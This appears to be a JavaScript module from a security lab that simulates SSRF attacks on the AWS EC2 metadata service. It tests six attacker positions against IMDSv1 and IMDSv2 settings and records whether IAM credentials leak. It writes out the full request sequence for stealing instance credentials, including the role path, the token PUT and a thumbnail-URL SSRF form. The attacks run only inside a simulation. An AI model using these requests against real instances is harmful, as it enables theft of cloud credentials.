// @ts-check
// The lab's attackers. All of them try the same requests in the same order. The stages between an
// attacker and the service limit what arrives, and the engine decides the response; no outcome is
// coded here.

import { latin1, readResponse } from '../engine.js';
import { GET as PLAIN, HOST, PUT as TOKEN } from '../requests.js';
import { withLine } from '../compose.js';
import { simulate } from '../path/simulate.js';

/** @typedef {import('../path/simulate.js').Simulation} Simulation */
/**
 * `via` is how the attacker reaches the service: a URL for the thumbnail service, or a request of
 * their own. `method` and `headers` tell whether the attacker controls them.
 * @typedef {{ id: string, stages: { kind: string }[], via: 'url' | 'request', method: boolean, headers: boolean }} Attacker
 */
/**
 * One request of an attack.
 * @typedef {{ goal: 'role' | 'keys' | 'token' | 'session', request: string, simulation: Simulation, entry?: import('../session.js').Entry }} Try
 */
/**
 * `keys` is the credentials document, if it reached the attacker.
 * @typedef {{ tries: Try[], leaked: Try | null, keys: string }} Outcome
 */

const only = (/** @type {string} */ kind) => [{ kind }];
/** @type {Attacker[]} */
export const ATTACKERS = [
  { id: 'get', stages: only('fetch-get'), via: 'url', method: false, headers: false },
  { id: 'method', stages: only('fetch-method'), via: 'url', method: true, headers: false },
  { id: 'any', stages: only('fetch-any'), via: 'url', method: true, headers: true },
  { id: 'proxy', stages: only('waf'), via: 'request', method: true, headers: true },
  { id: 'container', stages: only('bridge'), via: 'request', method: true, headers: true },
  { id: 'host', stages: [], via: 'request', method: true, headers: true },
];
/** The number of attackers outside of the instance; the others run code on it. */
export const OUTSIDE = 4;

export const CREDENTIALS = '/latest/meta-data/iam/security-credentials/';
/** The role's name that an attacker guesses if it cannot be read. */
const GUESS = 'cli_role';
/**
 * The request that the attacker wants the service to receive.
 * @typedef {{ method: string, path: string, headers: string[] }} Target
 */

/**
 * The bytes that the attacker sends for a target.
 * @param {Attacker} attacker
 * @param {Target} target
 */
export function requestOf({ via }, { method, path, headers }) {
  if (via === 'request') {
    return withLine(PLAIN, { method, path }).replace(/\r\n$/, () => `${headers.map((it) => `${it}\r\n`).join('')}\r\n`);
  }
  const query = new URLSearchParams({ url: `http://${HOST}${path}` });
  if (method !== 'GET') query.set('method', method);
  for (const it of headers) query.append('field', it);
  // `:` and `/` are allowed in a query, and easier to read unescaped.
  const readable = `${query}`.replace(/%3A/g, ':').replace(/%2F/g, '/');
  return `GET /thumbnail?${readable} HTTP/1.1\r\nHost: thumbs.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: image/*\r\n\r\n`;
}

/**
 * The body that reached the attacker; empty unless the status is 200.
 * @param {Simulation} simulation
 */
const read = ({ outcome, exchange }) => (outcome === 'response' && exchange?.status === 200 ? latin1(readResponse(exchange)?.body ?? new Uint8Array()) : '');

/**
 * Tries IMDSv1, then IMDSv2; ends when the credentials are read or nothing is left to try.
 * @param {Attacker} attacker
 * @param {(request: string) => { simulation: Simulation, entry?: import('../session.js').Entry }} send
 * @returns {Outcome}
 */
export function attack(attacker, send) {
  /** @type {Try[]} */ const tries = [];
  const attempt = (/** @type {Try['goal']} */ goal, /** @type {Target} */ target) => {
    const request = requestOf(attacker, target);
    tries.push({ goal, request, ...send(request) });
    return read(tries[tries.length - 1].simulation);
  };
  const get = (/** @type {string} */ path, /** @type {string[]} */ headers = []) => ({ method: 'GET', path, headers });
  const outcome = (/** @type {string} */ keys) => ({ tries, keys: isKeys(keys) ? keys : '', leaked: isKeys(keys) ? tries[tries.length - 1] : null });
  const role = attempt('role', get(CREDENTIALS)).split('\n')[0] || GUESS;
  const keys = attempt('keys', get(CREDENTIALS + role));
  if (isKeys(keys)) return outcome(keys);
  const [, ttl] = /^(X-aws-ec2-metadata-token-ttl-seconds: \d+)\r$/m.exec(TOKEN) ?? ['', ''];
  const token = attempt('token', { method: 'PUT', path: '/latest/api/token', headers: [ttl] });
  return outcome(token && attempt('session', get(CREDENTIALS + role, [`X-aws-ec2-metadata-token: ${token}`])));
}
const isKeys = (/** @type {string} */ text) => text.includes('"SecretAccessKey"');

/** The columns of the table of outcomes. */
export const CONFIGURATIONS = ['optional', 'required'].flatMap((http_tokens) => [1, 2].map((http_put_response_hop_limit) => ({ http_tokens, http_put_response_hop_limit })));

/**
 * Runs every attacker against every configuration, on clones of the session.
 * @param {import('../session.js').Session} session @param {string} instance
 * @returns {{ configuration: typeof CONFIGURATIONS[number], outcomes: Record<string, Outcome>, requests: number }[]}
 */
export function outcomes(session, instance) {
  return CONFIGURATIONS.map((configuration) => {
    const imds = session.clone();
    try {
      imds.modify(/** @type {any} */ ({ ...configuration, http_endpoint: 'enabled' }), { instance });
      /** @type {Record<string, Outcome>} */ const outcomes = {};
      const sendAs = (/** @type {Attacker} */ { stages }) => (/** @type {string} */ request) => ({ simulation: simulate(imds, new TextEncoder().encode(request), { now: session.now(), stages, instance }) });
      for (const attacker of ATTACKERS) outcomes[attacker.id] = attack(attacker, sendAs(attacker));
      return { configuration, outcomes, requests: Object.values(outcomes).reduce((sum, { tries }) => sum + tries.length, 0) };
    } finally {
      imds.free();
    }
  });
}
